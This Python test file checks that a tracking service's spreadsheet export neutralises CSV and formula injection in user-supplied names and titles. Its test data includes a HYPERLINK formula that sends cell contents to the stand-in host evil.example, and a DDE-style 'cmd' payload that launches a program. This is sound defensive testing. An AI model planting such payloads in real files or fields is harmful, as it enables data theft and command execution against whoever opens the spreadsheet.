"""Spreadsheet export never writes a formula: names and titles come from other people's input, and a cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return would run in Excel or LibreOffice (CSV injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from services.tracking import export

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd"]
HOSTILE += ["\t=1+1", "\r=1+1"]


def status_with(names: list[str], title: str = "=1+1") -> dict[str, Any]:
    counts = {"total": 1, "done_on_time": 0, "done_late": 0, "open": 1, "overdue": 0}
    totals = {**counts, "percent": {"done_on_time": 0.0, "done_late": 0.0, "open": 100.0, "overdue": 0.0}}
    return {
        "plan_id": "p1",
        "plan": {"number": "=2+2", "title": title},
        "totals": totals,
        "by_period": {"2027-H1": totals},
        "assignments": [{"agency": {"name": name, "kind": "-kind"}, "periods": {"2027-H1": "open"}} for name in names],
    }


def test_the_xlsx_holds_no_formula_and_keeps_the_text_as_it_was() -> None:
    workbook = load_workbook(io.BytesIO(export.to_xlsx(status_with(HOSTILE))))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells}
    assert set(HOSTILE) <= texts and "-kind" in texts  # written as text, not altered
    assert all(cell.quotePrefix for cell in cells if cell.value in HOSTILE)
    numbers = [cell.value for cell in cells if isinstance(cell.value, int | float)]
    assert 100.0 in numbers  # numbers stay numbers


def test_the_csv_puts_a_quote_before_every_formula_like_cell() -> None:
    rows = list(csv.reader(io.StringIO(export.to_csv(status_with(HOSTILE)).decode("utf-8-sig"))))
    names = [row[1] for row in rows[1 : 1 + len(HOSTILE)]]
    assert names == [f"'{name}" for name in HOSTILE]
    assert all(row[2] == "'-kind" for row in rows[1 : 1 + len(HOSTILE)])
    assert rows[-1][-2:] == ["1", "100.0"]  # numbers are not quoted


@pytest.mark.parametrize("harmless", ["Chi bộ khu 1", "Ban Tuyên giáo (=)", "", "a-b"])
def test_ordinary_text_is_written_unchanged(harmless: str) -> None:
    rows = list(csv.reader(io.StringIO(export.to_csv(status_with([harmless])).decode("utf-8-sig"))))
    assert rows[1][1] == harmless
